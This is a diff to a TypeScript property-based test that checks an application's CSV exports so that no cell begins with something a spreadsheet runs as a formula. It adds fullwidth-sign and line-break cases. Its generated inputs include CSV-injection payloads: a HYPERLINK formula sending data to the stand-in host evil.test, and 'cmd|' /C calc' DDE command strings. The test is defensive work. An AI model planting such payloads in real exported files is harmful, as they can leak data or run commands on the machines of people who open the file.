@@ -4,7 +4,9 @@
 // `@`, a tab, a carriage return); nested values come with them (an order's document, a claim's
 // files, a registration request's `same_tax_id`, a dealer's users). Then `?format=csv` of every list,
 // as the staff and as the dealer, and every cell of every file: none may begin with what a
-// spreadsheet runs (OWASP: such a cell carries a leading `'`).
+// spreadsheet runs (OWASP: such a cell carries a leading `'`). The files are read as a spreadsheet
+// reads them (parseCsv: a new row at any CR, LF or CRLF outside quotes): a bare line break inside
+// a value must not start a row whose first cell is a formula (issue 30 item 1).
 import fc from 'fast-check';
 import { areas } from '../areas';
 import { parseCsv } from './parse-csv';
@@ -14,11 +16,13 @@ import { call, client, createTestApp, testDatabases, tokensFor, type Client, typ
  * What a spreadsheet runs when a cell begins with it. A cell that is exactly a number (`-5`,
  * `-5,00`, from a number column: lib/csv.ts) is a number constant, not a formula.
  */
-const RUNS_AS_FORMULA = /^(?!-\d+(,\d+)?$)[=+\-@\t\r]/;
+const RUNS_AS_FORMULA = /^(?!-\d+(,\d+)?$)[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 /** A text that begins with what a spreadsheet runs, then anything (quotes, `;`, line breaks), then a letter so it is never blank. */
 const hostile = fc.tuple(
-  fc.constantFrom('=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '=1;=2'),
+  fc.constantFrom('=', '+', '-', '@', '\t', '\r', '=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '=1;=2',
+    // A formula after a bare line break, which would begin a row of its own; the fullwidth signs.
+    'a\n=1+1', 'a\r+1+1', '\n-2+3', 'b\r\n@SUM(1)', '\uFF1D1+1', '\uFF0B1', '\uFF0D2+3', '\uFF20SUM(1)'),
   fc.string({ unit: fc.constantFrom(...'abя =+-@";,|!()\n\'\t'), maxLength: 12 }),
 ).map(([lead, rest]) => `${lead}${rest}x`);
 /** A file name that begins like a formula (what lib/files.ts keeps of it still does). */
@@ -123,11 +127,13 @@ describe.each(testDatabases())('no CSV cell of any list runs as a formula, whate
       for (const [path, who] of lists) {
         const answer = await who().get(`/api${path}?format=csv`);
         if (answer.status !== 200) throw new Error(`${path}: ${answer.status} ${answer.body.slice(0, 200)}`);
-        const rows = parseCsv(answer.body.replace(/^\uFEFF/, ''));
+        const rows = parseCsv(answer.body);
         for (const [r, row] of rows.entries()) {
+          // No value broke out into a row of its own: every row has the header's columns.
+          if (row.length !== rows[0].length) throw new Error(`${path} row ${r} has ${row.length} cells, the header ${rows[0].length}: ${JSON.stringify(row)}`);
           for (const [c, cell] of row.entries()) {
             if (RUNS_AS_FORMULA.test(cell)) throw new Error(`${path} row ${r} column ${rows[0][c]}: ${JSON.stringify(cell)}`);
-            if (/^'[=+\-@\t\r]/.test(cell)) escapedSeen.set(path, (escapedSeen.get(path) ?? 0) + 1);
+            if (/^'[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) escapedSeen.set(path, (escapedSeen.get(path) ?? 0) + 1);
           }
         }
       }
